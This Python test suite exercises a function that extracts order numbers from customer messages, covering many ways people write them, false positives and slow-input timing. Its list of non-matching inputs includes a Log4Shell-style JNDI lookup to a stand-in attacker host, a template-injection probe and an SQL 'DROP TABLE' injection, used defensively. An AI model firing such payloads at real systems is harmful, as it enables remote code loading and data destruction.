"""Order numbers in the ways people write them."""

import time

import pytest
from hypothesis import given
from hypothesis import strategies as st

from nodes.functions.mentions import MAX_CHARACTERS, order_numbers

NAMED = [
    ("O-36751", "O-36751"),
    ("o-36751", "O-36751"),
    ("o36751", "O-36751"),
    ("O36751", "O-36751"),
    ("O 36751 is late", "O-36751"),
    ("O–36751", "O-36751"),
    ("O—36751", "O-36751"),
    ("O−36751", "O-36751"),
    ("O‑36751", "O-36751"),
    ("o - 36751", "O-36751"),
    ("O.36751", "O-36751"),
    ("O_36751", "O-36751"),
    ("(O-36751)", "O-36751"),
    ("Where is O-36751?", "O-36751"),
    ("O-36751.", "O-36751"),
    ("O-36751's box is torn", "O-36751"),
    ("O-1", "O-1"),
    ("#36751", "O-36751"),
    ("# 36751", "O-36751"),
    ("#4143", "O-4143"),
    ("#36751 was debited twice", "O-36751"),
    ("#O-36751", "O-36751"),
    ("my number is #36751!", "O-36751"),
    ("order 36751", "O-36751"),
    ("Order 36751", "O-36751"),
    ("ORDER 36751", "O-36751"),
    ("order  36751", "O-36751"),
    ("order\n36751", "O-36751"),
    ("order36751", "O-36751"),
    ("order-36751", "O-36751"),
    ("order_36751", "O-36751"),
    ("order: 36751", "O-36751"),
    ("order:36751", "O-36751"),
    ("order = 36751", "O-36751"),
    ("order #36751", "O-36751"),
    ("order # 36751", "O-36751"),
    ("order#36751", "O-36751"),
    ("order #O-36751", "O-36751"),
    ("order O-36751", "O-36751"),
    ("order o36751", "O-36751"),
    ("order 0-36751", "O-36751"),
    ("order number 36751", "O-36751"),
    ("order number: 36751", "O-36751"),
    ("order number #36751", "O-36751"),
    ("order number O-36751", "O-36751"),
    ("order number is 36751", "O-36751"),
    ("the order number was O-36751", "O-36751"),
    ("order numbers 36751", "O-36751"),
    ("ordernumber 36751", "O-36751"),
    ("order-number 36751", "O-36751"),
    ("order no. 36751", "O-36751"),
    ("order no 36751", "O-36751"),
    ("order no.36751", "O-36751"),
    ("order № 36751", "O-36751"),
    ("order nr 36751", "O-36751"),
    ("order nr. 36751", "O-36751"),
    ("order num 36751", "O-36751"),
    ("order id 36751", "O-36751"),
    ("order ref. 36751", "O-36751"),
    ("order reference number 36751", "O-36751"),
    ("order confirmation 36751", "O-36751"),
    ("order with the number 36751", "O-36751"),
    ("the number of my order is 36751", "O-36751"),
    ("ord. 36751", "O-36751"),
    ("ord 36751", "O-36751"),
    ("ord#36751", "O-36751"),
    ("ord-36751", "O-36751"),
    ("my order (36751)", "O-36751"),
    ("my order (no. 36751) is late", "O-36751"),
    ("my order, 36751, is late", "O-36751"),
    ('order "36751"', "O-36751"),
    ("order '36751'", "O-36751"),
    ("order [36751]", "O-36751"),
    ("order *36751*", "O-36751"),
    ("order number 7", "O-7"),
    ("order #12", "O-12"),
    ("order 123 never arrived", "O-123"),
    ("order 123456789012", "O-123456789012"),
    ("order 00123", "O-00123"),
    ("order 2968", "O-2968"),
    ("odrer 36751", "O-36751"),
    ("oder 36751", "O-36751"),
    ("ordre 36751", "O-36751"),
    ("orde 36751", "O-36751"),
    ("orderr 36751", "O-36751"),
    ("order nubmer 36751", "O-36751"),
    ("odrer numbr: 36751", "O-36751"),
    ("order 36 751", "O-36751"),
    ("order 36.751", "O-36751"),
    ("order 36,751", "O-36751"),
    ("order number 3 6 7 5 1", "O-36751"),
    ("O-36 751", "O-36751"),
    ("order 36751.It never came", "O-36751"),
    ("order 36751-it never came", "O-36751"),
    ("order 36751 - it never came", "O-36751"),
    ("36751 is my order number", "O-36751"),
    ("my 36751 order is late", "O-36751"),
    ("purchase 36751", "O-36751"),
    ("order ３６７５１", "O-36751"),
    ("＃３６７５１", "O-36751"),
    ("Ｏ－３６７５１", "O-36751"),
    ("order ٣٦٧٥١", "O-36751"),
    ("order 36\u200b751", "O-36751"),
    ("order\u00a036751", "O-36751"),
    ("order 36751 2 weeks ago", "O-36751"),
    ("order 36751 on 2025-05-12", "O-36751"),
    ("please cancel my plan. PS order 36751 was fine", "O-36751"),
    ("O-36751 O-36751 order 36751 #36751", "O-36751"),
]

SEVERAL = [
    ("orders 36751 and 36752", ["O-36751", "O-36752"]),
    ("orders 36751, 36752 & 4143", ["O-36751", "O-36752", "O-4143"]),
    ("orders #36751 and #36752", ["O-36751", "O-36752"]),
    ("#36752 or 36751", ["O-36752", "O-36751"]),
    ("order 36751/36752", ["O-36751", "O-36752"]),
    ("order 36751,36752", ["O-36751", "O-36752"]),
    ("O-36752, then O-36751, then O-36752", ["O-36752", "O-36751"]),
    ("order 36751\norder 36752", ["O-36751", "O-36752"]),
]

NO_NUMBERS = [
    ("order number ABC-12", "ABC-12"),
    ("order number abc-12 is late", "ABC-12"),
    ("order #12a45", "12A45"),
    ("order #abc", "ABC"),
    ("O-12E4", "O-12E4"),
    ("order O-12E4", "O-12E4"),
    ("order number O-ABC", "O-ABC"),
    ("order HP12X9", "HP12X9"),
    ("order number 36751a", "36751A"),
    ("order number 1.5", "1.5"),
    ("order number 2025-05-12", "2025-05-12"),
    ("order number 1234567890123", "1234567890123"),
    ("order #" + "9" * 60, "9" * MAX_CHARACTERS),
    ("order number x1" + "y" * 60, ("X1" + "Y" * 60)[:MAX_CHARACTERS]),
]

NOTHING = [
    "",
    "   \n ",
    "where is my order",
    "My order number is lost",
    "I do not have the order number",
    "no order yet",
    "order today",
    "order, please",
    "order #",
    "order number",
    "order no.",
    "#fff",
    "#1 shop",
    "#12a45",
    "&#36751;",
    "https://shop.example/page#36751",
    "call me at 555-1234567",
    "call +1 555 123 4567 about my order",
    "order 555-123-4567",
    "it cost $36751",
    "order of $367.51",
    "order $36751",
    "order 36751 USD",
    "order 36751 euros",
    "order 36751 days ago",
    "order 100%",
    "order 12.50",
    "36751",
    "I am 78 years old",
    "my order of 2024",
    "order 2024-05-01",
    "order 12/05/2024",
    "order 10:30",
    "order by 10am",
    "order 10am",
    "order 24/7",
    "order 3rd time",
    "the 3rd order",
    "order 2 chairs",
    "order 2x",
    "can I order 300 mugs",
    "I want to order 12 chairs",
    "item 12345 in my order",
    "item #12345",
    "ticket #12345",
    "ticket T-97248",
    "my ticket number is #12345",
    "invoice no. #36751",
    "apartment #1234",
    "PO-12345",
    "HELLO-36751",
    "CO 36751",
    "border 36751",
    "ordered 36751",
    "in order to 36751",
    "Albany 12207",
    "Delete the file with ID '13' from the cloud drive.",
    "o-ring",
    "o2 sensor",
    "{{7*7}} ${jndi:ldap://evil.example/a} %s %n %x",
    "'; DROP TABLE orders; --",
]


@pytest.mark.parametrize(("text", "number"), NAMED)
def test_an_order_is_found_however_it_is_written(text: str, number: str) -> None:
    assert order_numbers(text) == [number]
    assert order_numbers(f"Hi, {text}") == [number]


@pytest.mark.parametrize(("text", "numbers"), SEVERAL)
def test_several_orders_are_given_once_in_the_order_of_mention(text: str, numbers: list[str]) -> None:
    assert order_numbers(text) == numbers


@pytest.mark.parametrize(("text", "given"), NO_NUMBERS)
def test_what_is_called_an_order_number_and_is_none_is_given_as_it_stands(text: str, given: str) -> None:
    assert order_numbers(text) == [given]


@pytest.mark.parametrize("text", NOTHING)
def test_other_numbers_are_no_orders(text: str) -> None:
    assert order_numbers(text) == []


PIECES = st.sampled_from(
    [
        "order",
        "o",
        "O-",
        "#",
        "no.",
        "number",
        "36751",
        "3",
        " ",
        "-",
        ".",
        ",",
        "/",
        "(",
        "and",
        "is",
        "is ",
        "\n",
        "x",
        "'s",
        "№",
        "٣",
    ]
)


@given(st.one_of(st.text(max_size=300), st.lists(PIECES, max_size=60).map("".join)))
def test_any_text_gives_short_ids_once_and_never_raises(text: str) -> None:
    found = order_numbers(text)
    assert len(set(found)) == len(found)
    assert all(0 < len(number) <= MAX_CHARACTERS for number in found)


@pytest.mark.parametrize(
    "piece",
    [
        "order ", "order is ", "order number is the ", "#", "# ", "o-", "o - ", "1 ", "12 345 ", "1-", "order 1.", "order\n",
        "order #a-", "ticket #", "order 36751, ", "1234 order ", "(", "order ((((", "١", "\u200b", "a-", "order x1-",
    ],
)  # fmt: skip
def test_hostile_texts_of_20_kb_take_little_time(piece: str) -> None:
    text = (piece * (20_000 // len(piece)))[:20_000]
    begun = time.perf_counter()
    order_numbers(text)
    assert time.perf_counter() - begun < 0.5
